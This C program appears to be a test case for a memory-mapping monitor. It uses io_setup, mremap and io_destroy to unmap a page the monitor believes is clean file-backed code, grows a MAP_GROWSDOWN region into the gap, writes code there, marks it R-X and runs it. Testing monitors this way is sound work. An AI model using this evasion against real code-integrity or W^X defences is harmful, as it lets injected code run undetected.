/*
 * Attack: io_destroy() unmaps the range where the context's ring was put
 * (its id is that address), whatever is mapped there now. A model that does
 * not see io_setup/io_destroy keeps what it last saw there: here a clean
 * page of the program's own file mapped R-X over the ring's place after
 * the ring was munmapped. The kernel removes that page at io_destroy; a
 * MAP_GROWSDOWN region above grows into the gap on a fault (no call), and
 * the page holding written code is made R-X: judged as the clean page.
 *
 *   hole:  8 MiB reserved PROT_NONE, then unmapped (the highest free gap);
 *          a MAP_GROWSDOWN RW page at its top;
 *   ring:  io_setup's ring (several pages) moved by mremap into the hole,
 *          4 MiB below that page (aio follows the move: the context's id
 *          becomes the new address); its second page munmapped and one page
 *          of /proc/self/exe mapped R-X MAP_FIXED there (the first page
 *          stays: the kernel finds the context by the ring's `id` word);
 *   cut:   io_destroy: the kernel unmaps the ring's old range;
 *   grow:  write code at the ring's base (the GROWSDOWN region grows down to
 *          it), mprotect that page R-X, run.
 *
 * With argument "m32" the hole lies below 4 GiB and io_destroy is made
 * through int $0x80 (i386).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <sys/syscall.h>

#include "common.h"

#define HOLE (8UL << 20)

static long i386_io_destroy(unsigned long ctx)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(246L), "b"(ctx) : "memory");
	return ret;
}

int main(int argc, char **argv)
{
	int m32 = argc > 1 && strcmp(argv[1], "m32") == 0;
	size_t pg = tw_page();
	aio_context_t ctx = 0;
	char *hole, *grows, *ring, *target;
	struct tw_map m;
	long rc;
	int fd;

	tw_init();
	fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	hole = mmap(m32 ? (void *)0x40000000UL : NULL, HOLE, PROT_NONE,
		    MAP_PRIVATE | MAP_ANONYMOUS | (m32 ? MAP_FIXED_NOREPLACE : 0), -1, 0);
	if (fd < 0 || hole == MAP_FAILED)
		return 1;
	munmap(hole, HOLE);
	grows = tw_mmap("growsdown_mmap", hole + HOLE - pg, pg, TW_RW,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_GROWSDOWN, -1, 0);
	if (grows == MAP_FAILED)
		return tw_done();
	rc = syscall(SYS_io_setup, 1024, &ctx);
	tw_step("ring_io_setup", "io_setup", rc, errno);
	if (rc < 0)
		return tw_done();
	if (tw_find_map((void *)(uintptr_t)ctx, &m) != 0 || m.end - m.start < 2 * pg)
		return tw_done();
	ring = mremap((void *)(uintptr_t)ctx, m.end - m.start, m.end - m.start, MREMAP_MAYMOVE | MREMAP_FIXED,
		      hole + HOLE / 2);
	tw_step_addr("ring_mremap", "mremap", ring, MAP_FAILED, errno);
	if (ring == MAP_FAILED)
		return tw_done();
	ctx = (aio_context_t)(uintptr_t)ring;
	target = ring + pg;
	tw_munmap("ring_munmap", target, pg);
	if (tw_mmap("file_mmap", target, pg, TW_RX, MAP_PRIVATE | MAP_FIXED, fd, 0) == MAP_FAILED)
		return tw_done();
	if (m32) {
		tw_step_raw("cut_io_destroy", "io_destroy", i386_io_destroy(ctx));
	} else {
		rc = syscall(SYS_io_destroy, ctx);
		tw_step("cut_io_destroy", "io_destroy", rc, errno);
	}
	if (tw_show_map("after_cut", target) >= 0)
		return tw_done();
	tw_put_code(target); /* a fault below the GROWSDOWN region grows it down to here */
	if (tw_find_map(target, &m) != 0 || m.perms[1] != 'w')
		return tw_done();
	tw_show_map("grown", target);
	if (tw_mprotect("grown_rx_mprotect", target, pg, TW_RX) == 0)
		tw_run("grown_call", target);
	return tw_done();
}
